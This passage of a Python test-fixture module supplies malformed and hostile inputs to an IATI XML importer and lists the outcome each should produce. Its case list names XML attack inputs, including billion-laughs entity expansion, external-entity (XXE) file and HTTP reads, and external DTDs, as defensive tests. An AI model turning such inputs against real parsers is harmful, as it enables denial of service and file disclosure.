            # The unknown default-currency is on the <iati-activity> line; an importer may rather name the first
            # amount that uses it: the budget's or the first transaction's (their element or <value> line).
            lines = [text.strip() for text in marked.split(b"\n")]
            at = line_of(marked, 'data-marker="currency"')
            found: list[int] = []
            for needle in (b"<budget ", b"<transaction "):
                element = next(k for k in range(at, len(lines)) if lines[k].startswith(needle))
                value = next(k for k in range(element, len(lines)) if lines[k].startswith(b"<value "))
                found += [element + 1, value + 1]
            also = tuple(sorted({*also, *found}))
        return Expected("skipped", first, f"unknown code ({which})", imported=2, skipped=1, also=also)
    if name == "transaction_without_value_date_and_currency":
        data = transaction_without_value_date_and_currency()
        return Expected(
            "skipped", line_of(data, b"<value>25000.00</value>"), "a value with no currency", imported=2, skipped=1
        )
    if name == "deeply_nested":
        return Expected("refused", 5, "too deeply nested (the parser's limit)")
    if name == "huge_text_node":
        return Expected("refused", 1, "a text node over the parser's limit")
    raise KeyError(name)


CASES = (
    "billion_laughs", "xxe_file", "xxe_http", "xxe_parameter_entity", "external_dtd", "empty", "not_xml_png",
    "not_xml_zip", "wrong_root", "malformed", "truncated", "utf16:bom", "utf16:nobom", "latin1", "invalid_utf8",
    "version_105", "missing_identifier", "unknown_codes:currency", "unknown_codes:transaction-type",
    "unknown_codes:sector", "unknown_codes:all", "transaction_without_value_date_and_currency", "deeply_nested",
    "huge_text_node",
)  # fmt: skip


def build(case: str) -> bytes:
    """The bytes for a name in `CASES` (e.g. `build("utf16:nobom")`)."""
    name, _, variant = case.partition(":")
    if name == "utf16":
        return utf16(bom=variant != "nobom")
    if name == "unknown_codes":
        return unknown_codes(variant or "all")
    return globals()[name]()
